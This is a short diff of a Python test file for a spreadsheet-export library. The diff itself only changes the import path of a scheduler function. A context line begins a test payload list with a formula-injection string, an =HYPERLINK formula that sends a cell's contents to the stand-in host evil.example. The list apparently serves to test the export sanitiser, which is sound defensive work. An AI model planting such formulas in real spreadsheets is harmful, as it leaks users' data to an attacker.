@@ -18,7 +18,7 @@ from click.testing import CliRunner
 from careerlib import ExportError, export, load_plan
 from careerlib._spreadsheet import EXCEL_CELL_LIMIT, safe_cell
 from careerlib.cli import cli
-from careerlib.scheduler import schedule
+from careerlib.scheduling.scheduler import schedule
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
